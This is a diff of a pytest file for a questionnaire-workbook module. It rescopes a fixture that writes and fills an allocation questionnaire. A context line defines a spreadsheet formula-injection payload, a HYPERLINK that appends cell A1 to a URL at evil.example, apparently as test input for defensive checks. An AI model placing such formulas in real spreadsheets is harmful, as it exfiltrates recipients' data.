@@ -28,12 +28,13 @@ FORMULA = '=HYPERLINK("http://evil.example?"&A1,"点我")'
 
 
 # --- coming in ------------------------------------------------------------------------------------------
-@pytest.fixture
-def questionnaire(tmp_path: Path) -> bytes:
+@pytest.fixture(scope="module")
+def questionnaire(tmp_path_factory: pytest.TempPathFactory) -> bytes:
     """A filled questionnaire as an expert would return it."""
     from drafting.workbook.questionnaires.delphi_questionnaires import write_allocation_questionnaire
 
-    blank, filled = tmp_path / "blank.xlsx", tmp_path / "filled.xlsx"
+    folder = tmp_path_factory.mktemp("questionnaire")
+    blank, filled = folder / "blank.xlsx", folder / "filled.xlsx"
     system = inputs().system
     write_allocation_questionnaire(blank, ME, 1, system, frozenset(TRUE))
     fill_allocation(blank, filled, TRUE)
